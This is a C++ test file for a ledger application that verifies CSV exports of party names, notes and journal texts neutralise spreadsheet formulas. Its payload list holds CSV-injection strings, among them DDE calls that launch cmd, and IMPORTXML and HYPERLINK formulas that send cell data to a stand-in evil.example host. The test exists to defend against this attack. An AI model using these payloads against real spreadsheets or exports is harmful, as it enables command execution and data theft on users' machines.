#include "core/csv.hpp"
#include "ledger/ledger.hpp"
#include "test_world.hpp"

namespace farflung {
namespace {

/// C3 and C10: what a spreadsheet would run, or a separator cut, in every text that people may write into a list.
class CsvExports : public test::WorldTest {
  protected:
    static std::vector<std::string> payloads() {
        std::vector<std::string> all;
        for (auto const* begin : {"=", "+", "-", "@", " =", "＝", "\t=", "\r="}) {
            for (auto const* rest :
                 {"1+1", "HYPERLINK(\"http://evil.example\",\"Pay\")", "cmd|' /C calc'!A0", "SUM(A1:A9)", "2+5,;\t|x",
                  "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "\"quoted\", \"twice\"", "A1\n=A2",
                  "DDE(\"cmd\";\"/C calc\";\"x\")", "<script>alert(1)</script>"})
                all.push_back(std::string(begin) + rest);
        }
        return all;
    }
    static bool is_one_line(std::string_view text) { return text.find_first_of("\t\r\n") == std::string_view::npos; }
    std::vector<CsvRow> exported(std::string const& who, std::string const& path) {
        auto const reply = ask(who, {.method = "GET", .path = path, .headers = {{"Accept", "text/csv"}}});
        EXPECT_EQ(reply.status, 200) << reply.body;
        EXPECT_EQ(reply.body.substr(0, 3), "\xEF\xBB\xBF");
        return read_csv(std::string_view(reply.body).substr(3));
    }
    static std::size_t column_of(std::vector<CsvRow> const& rows, std::string_view name) {
        auto const& names = rows.at(0).cells;
        return static_cast<std::size_t>(std::ranges::find(names, name) - names.begin());
    }
    static void expect_no_formula(std::vector<CsvRow> const& rows) {
        for (auto const& row : rows) {
            EXPECT_EQ(row.cells.size(), rows.at(0).cells.size()) << "line " << row.line;
            for (auto const& cell : row.cells) {
                bool const starts = !cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string::npos;
                EXPECT_TRUE(!starts || Decimal::parse(cell)) << cell;
            }
        }
    }
};
INSTANTIATE_TEST_SUITE_P(Both, CsvExports, test::both_databases(), test::name_of);

TEST_P(CsvExports, keep_a_formula_as_text_and_every_word_of_it) {
    auto const before = exported("dana", "/parties?limit=200").size();
    std::vector<std::string> kept;
    for (auto const& text : payloads()) {
        auto const reply = post("dana", "/parties",
                                R"({"zone":"UTC","currency":"EUR","is_customer":true,"name":)" + to_json(text) +
                                    R"(,"notes":)" + to_json(text) + "}");
        // A name is one line; whoever writes more of them is told so, and notes may have them.
        EXPECT_EQ(reply.status, is_one_line(text) ? 201 : 422) << reply.body;
        if (reply.status == 201) {
            kept.push_back(get("dana", "/parties/" + reply.at("id")).at("name"));
        } else {
            kept.push_back("Plain " + std::to_string(kept.size()));
            make("dana", "/parties",
                 R"({"zone":"UTC","currency":"EUR","name":)" + to_json(kept.back()) + R"(,"notes":)" + to_json(text) +
                     "}");
        }
    }
    EXPECT_EQ(kept.size(), 80U);
    auto const rows = exported("dana", "/parties?limit=200");
    EXPECT_EQ(rows.size(), before + kept.size());
    expect_no_formula(rows);
    auto const name = column_of(rows, "name");
    for (auto const& text : kept) {
        EXPECT_TRUE(std::ranges::any_of(rows, [&](CsvRow const& row) {
            return row.cells.at(name) == text || row.cells.at(name) == "'" + text;
        })) << text;
    }
}

TEST_P(CsvExports, of_the_journal_keep_a_formula_as_text_and_numbers_as_numbers) {
    as_system([](Unit& unit) { ledger::ensure_chart(unit); });
    auto const id_of = [&](std::string const& code) {
        return get("fran", "/ledger_accounts?code=" + code).at("items/0/id");
    };
    std::array const accounts{id_of("1000"), id_of("3000")};  // bank, opening balances
    std::size_t booked = 0;
    for (auto const& text : payloads()) {
        auto const side = [&](std::size_t index, char const* amount) {
            return R"({"account_id":")" + accounts[index] + R"(","amount":{"amount":")" + amount +
                   R"(","currency":"AUD"}})";
        };
        auto const reply = post("fran", "/journal_entries",
                                R"({"posted_on":"2026-11-05","text":)" + to_json(text) + R"(,"postings":[)" +
                                    side(0, "5.00") + "," + side(1, "-5.00") + "]}");
        EXPECT_EQ(reply.status, is_one_line(text) ? 200 : 422) << reply.body;
        if (reply.status == 200) booked += 2;
    }
    EXPECT_GE(booked, 80U);
    auto const rows = exported("fran", "/ledger/export/csv");
    expect_no_formula(rows);
    EXPECT_EQ(rows.size(), 1 + booked);
    auto const amount = column_of(rows, "amount");
    for (std::size_t i = 1; i < rows.size(); ++i) EXPECT_TRUE(Decimal::parse(rows[i].cells.at(amount))) << i;
}

}  // namespace
}  // namespace farflung
